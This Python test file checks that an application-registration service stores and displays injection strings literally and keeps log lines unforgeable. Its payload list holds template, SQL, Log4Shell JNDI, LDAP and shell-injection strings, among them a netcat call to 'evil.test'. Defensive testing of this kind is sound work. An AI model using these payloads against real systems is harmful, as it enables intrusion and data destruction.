"""What people write into registrations is text, whatever it looks like: nothing of it is run, anywhere."""

import html

import pytest

from tests.conformance.person import asking
from tests.conformance.protocol import app, bearer

CODE = (
    "{{ 7 * 7 }}{% for each in ().__class__.__base__.__subclasses__() %}",
    "'; DROP TABLE applications; --",
    "${jndi:ldap://evil.test/a} %n%s #{7*7} <%= 7*7 %>",
    "*)(uid=*))(|(uid=*",
    "$(touch /tmp/owned) `id` | nc evil.test 1",
    "__import__('os').system('id')",
)


@pytest.mark.attack(115)
@pytest.mark.parametrize("text", CODE)
async def test_code_in_a_registration_is_kept_listed_found_and_shown_as_it_was_written(house, someone, text):
    web = await app(house, client_name=text, description=text)
    owner = bearer(await house.token("alice"))
    shown = (await house.call("GET", f"/api/applications/{web.client_id}", headers=owner)).json()
    assert (shown["client_name"], shown["description"]) == (text, text)
    found = await house.call("GET", "/api/applications", params={"q": text}, headers=owner)
    assert found.status_code == 200
    assert {each["client_name"] for each in found.json()["items"]} <= {text}
    page = await someone.sign_in(await someone.visit(asking(web)))
    assert text in html.unescape(page.text)
    assert ">49" not in page.text


@pytest.mark.attack(115)
async def test_a_log_line_is_one_line_whatever_a_caller_sends(house, caplog):
    caplog.set_level("DEBUG")
    for path in ("/oauth2/token%0d%0aWARNING%20forged", "/%0aforged"):
        await house.call("POST", path, content=b"client_id=a%0aforged", headers={"x-request-id": "forged"})
    assert not [record for record in caplog.records if "\nforged" in record.getMessage()]
